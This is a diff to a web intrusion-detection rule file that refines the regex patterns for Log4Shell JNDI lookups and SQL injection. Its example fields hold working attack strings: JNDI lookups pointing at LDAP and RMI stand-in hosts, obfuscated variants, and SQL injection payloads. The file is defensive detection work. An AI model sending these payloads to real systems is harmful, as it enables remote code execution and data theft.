@@ -17,7 +17,7 @@ export const webRules: RepoRule[] = [
   },
   {
     id: 'R0008', version: 1, name: 'log4j_jndi', description: 'A JNDI lookup string (Log4Shell, CVE-2021-44228), plain or obfuscated with nested lookups.',
-    appliesTo: ['url', 'user_agent', 'command'], match: { kind: 'pattern', pattern: String.raw`\$\{\s*jndi\s*:|\$\{(?:[^}$]|\$\{[^}]{0,40}\}){0,200}?\$\{[^}]{0,40}\}(?:[^}$]|\$\{[^}]{0,40}\}){0,200}?:\s*(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?):`, flags: 'i' },
+    appliesTo: ['url', 'user_agent', 'command'], match: { kind: 'pattern', pattern: String.raw`\$\{\s*jndi\s*:|\$\{(?:\$\{[^}$]{0,40}\}|[^}$]){1,200}?:\s*(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?):`, flags: 'i' },
     emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.9 }], evidence: ['match', 'url', 'user_agent'],
     examples: { match: ['${jndi:ldap://198.51.100.7:1389/a}', '/?x=${${lower:j}ndi:ldap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'], noMatch: ['/index.php?page=${name}', 'Mozilla/5.0 ${HOME}'] },
   },
@@ -29,7 +29,7 @@ export const webRules: RepoRule[] = [
   },
   {
     id: 'R0101', version: 1, name: 'sql_injection', description: 'SQL injection payloads in the request target.',
-    appliesTo: ['url'], match: { kind: 'pattern', pattern: String.raw`union(?:\s|\+|/\*.{0,20}?\*/)+(?:all(?:\s|\+)+)?select\b|'\s*(?:or|and)\s*'?\d+'?\s*=\s*'?\d|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|information_schema\.|\bxp_cmdshell\b`, flags: 'i' },
+    appliesTo: ['url'], match: { kind: 'pattern', pattern: String.raw`union(?:[\s+]|/\*[^*]{0,20}\*/){1,10}(?:all(?:[\s+]|/\*[^*]{0,20}\*/){1,10})?select\b|'\s*(?:or|and)\s*'?\d+'?\s*=\s*'?\d|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|information_schema\.|\bxp_cmdshell\b`, flags: 'i' },
     emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.75 }], evidence: ['url', 'match'],
     examples: { match: ["/item.php?id=1' OR '1'='1", '/p?id=1 UNION ALL SELECT null,user()', '/q?id=1 AND SLEEP(5)'], noMatch: ['/union/select-products', '/search?q=sleep+well'] },
   },
